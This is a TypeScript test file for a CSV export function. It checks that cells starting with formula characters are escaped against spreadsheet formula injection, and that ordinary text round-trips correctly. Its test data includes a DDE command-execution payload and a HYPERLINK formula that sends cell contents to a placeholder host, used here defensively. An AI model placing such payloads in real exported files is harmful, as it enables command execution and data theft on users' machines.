import { csvText, withoutFormulaMark } from '@guanjia/kernel/csvText';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';

const body = (text: string) => csvText([[text]]).slice(1, -2);
/** A cell as a spreadsheet takes it from its quotes. */
const cellIn = (written: string) => (written.startsWith('"') ? written.slice(1, -1).replaceAll('""', '"') : written);

describe('attack: formulas in CSV', () => {
  it.each([
    ['=1+1', `"'=1+1"`],
    ["=cmd|'/C calc'!A0", `"'=cmd|'/C calc'!A0"`],
    ['=HYPERLINK("http://a.example?x="&A1)', `"'=HYPERLINK(""http://a.example?x=""&A1)"`],
    ['+86', `"'+86"`],
    ['-1', `"'-1"`],
    ['@SUM(A1)', `"'@SUM(A1)"`],
    ['＝1＋1', `"'＝1＋1"`],
    [' ＠x', `"' ＠x"`],
    ['\tx', `"'\tx"`],
    ['\r=1', `"'\r=1"`],
    ['  =1', `"'  =1"`],
    ['\u00a0=1', `"'\u00a0=1"`],
    ["'=1", `"''=1"`],
    ['=a,"b"', `"'=a,""b"""`],
    ['x","=1+1', `"x"",""=1+1"`],
    ['x\r\n=1+1', '"x\r\n=1+1"'],
    ['x;=1+1', '"x;=1+1"'],
    ['x\t=1+1', '"x\t=1+1"'],
  ])('a cell says %j', (text, written) => {
    expect(body(text)).toBe(written);
  });

  it('any text: no cell begins with what opens a formula', () => {
    const sign = fc.constantFrom('=', '+', '-', '@', '＝', '\t', '\r', ' ', "'", '"');
    const text = fc.string({ unit: fc.oneof(sign, fc.string({ minLength: 1, maxLength: 1 })) });
    fc.assert(
      fc.property(text, (given) => {
        expect(cellIn(body(given))).not.toMatch(/^\s*[=+\-@＝＋－＠]/);
      }),
    );
  });
});

describe('CSV for a spreadsheet', () => {
  it.each([
    ['潍坊', '潍坊'],
    ['a,b', '"a,b"'],
    ['a"b', '"a""b"'],
    ['一\n二', '"一\n二"'],
    ["o'clock", `"o'clock"`],
  ])('writes %j as %j', (text, written) => {
    expect(body(text)).toBe(written);
  });

  it('begins with a byte-order mark and ends each line with CRLF', () => {
    const rows = [
      ['a', 'b'],
      ['c', ''],
    ];
    expect(csvText(rows)).toBe('\uFEFFa,b\r\nc,\r\n');
  });

  it('is read back as it was', () => {
    const sign = fc.constantFrom('=', "'", ' ', 'x');
    const text = fc.oneof(fc.string(), fc.string({ unit: sign }));
    fc.assert(
      fc.property(text, (given) => {
        expect(withoutFormulaMark(cellIn(body(given)))).toBe(given);
      }),
    );
  });
});
